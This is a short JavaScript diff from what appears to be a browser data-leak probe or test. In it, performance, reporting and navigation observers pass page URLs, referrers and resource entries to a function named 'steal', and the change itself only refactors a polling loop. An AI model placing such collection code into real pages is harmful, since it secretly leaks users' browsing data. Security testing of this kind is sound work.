@@ -4,7 +4,4 @@ const look = () => steal("records", location.href, document.URL, document.referr
 new PerformanceObserver(look).observe({ entryTypes: ["navigation", "resource", "mark", "measure"] });
 new ReportingObserver((reports) => steal("report", reports), { buffered: true }).observe();
 window.navigation?.addEventListener("navigate", ({ destination }) => steal("navigate", destination.url));
-for (let round = 0; round < 30; round += 1) {
-  look();
-  await wait(20);
-}
+for await (const _ of rounds(20)) look();
